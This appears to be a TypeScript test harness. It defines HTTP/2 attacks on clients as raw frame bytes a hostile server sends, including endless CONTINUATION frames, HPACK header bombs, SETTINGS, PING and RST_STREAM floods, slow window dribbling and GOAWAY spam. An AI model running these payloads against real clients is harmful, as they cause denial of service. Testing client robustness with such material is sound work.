// Attacks on HTTP/2 clients, as the bytes that a server sends when it has a request. `hello` begins its answer.
import { type Attack, attack, field, frame, setting, settings, u32 } from "./attacks.js";

/** Said to each connection. */
export const greeting: Buffer = Buffer.concat([settings(), frame(4, 1, 0)]);
const none = Buffer.alloc(0);
const block = Buffer.concat([Buffer.from([0x88]), field("content-type", "application/grpc+proto")]);
const head = frame(1, 4, 1, block);
const bombEntry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x78)]);
/** A head with status 103, which says that others follow. */
const interim = (...fields: readonly Buffer[]): Buffer =>
  frame(1, 4, 1, Buffer.concat([field(":status", "103"), ...fields]));

export const clientAttacks: readonly Attack[] = [
  attack(
    "CONTINUATION without end",
    (i) => (i === 0 ? frame(1, 0, 1, block) : frame(9, 0, 1, field("a", "b".repeat(100)))),
    { hello: none },
  ),
  attack("empty CONTINUATION without end", (i) => (i === 0 ? frame(1, 0, 1, block) : frame(9, 0, 1)), { hello: none }),
  attack("header bombs", (i) => interim(i === 0 ? bombEntry : Buffer.alloc(4000, 0xbe)), { hello: none, total: 2000 }),
  attack("1xx heads without end", () => interim(), { hello: none }),
  attack("table sizes", (i) => settings(setting(1, i % 2 === 0 ? 0 : 65_536)), { hello: none }),
  attack("SETTINGS", () => settings(setting(4, 65_535)), { hello: none }),
  attack("SETTINGS, not reading", () => settings(), { hello: none, reads: false }),
  attack("PING", () => frame(6, 0, 0, Buffer.alloc(8)), { hello: none }),
  attack("PING, not reading", () => frame(6, 0, 0, Buffer.alloc(8)), { hello: none, reads: false, total: 200_000 }),
  attack("empty DATA", () => frame(0, 0, 1), { hello: head }),
  attack("DATA of 1 byte", () => frame(0, 0, 1, Buffer.alloc(1)), { hello: head }),
  attack("huge padding", () => frame(0, 8, 1, Buffer.from([255, ...Buffer.alloc(255)])), { hello: head }),
  attack("RST_STREAM", () => frame(3, 0, 1, u32(8)), { hello: none }),
  attack("heads of calls that are over", () => head, { hello: Buffer.concat([head, frame(3, 0, 1, u32(8))]) }),
  attack("WINDOW_UPDATE", () => frame(8, 0, 0, u32(1)), { hello: none }),
  attack("dribbled windows", () => frame(8, 0, 1, u32(1)), { hello: settings(setting(4, 0)) }),
  attack("windows of 0, and back", (i) => settings(setting(4, i % 2 === 0 ? 0 : 65_535)), { hello: none }),
  attack("PUSH_PROMISE", (i) => frame(5, 4, 1, Buffer.concat([u32(2 * i + 2), Buffer.from([0x82, 0x86, 0x84])])), {
    hello: none,
  }),
  attack("priority churn", (i) => frame(2, 0, 1, Buffer.concat([u32(0), Buffer.from([i & 255])])), { hello: none }),
  attack("GOAWAY", (i) => frame(7, 0, 0, u32(0x7fff_ffff - i, 0)), { hello: none }),
  attack("unknown frames", () => frame(99, 0, 0, Buffer.alloc(16)), { hello: none }),
];
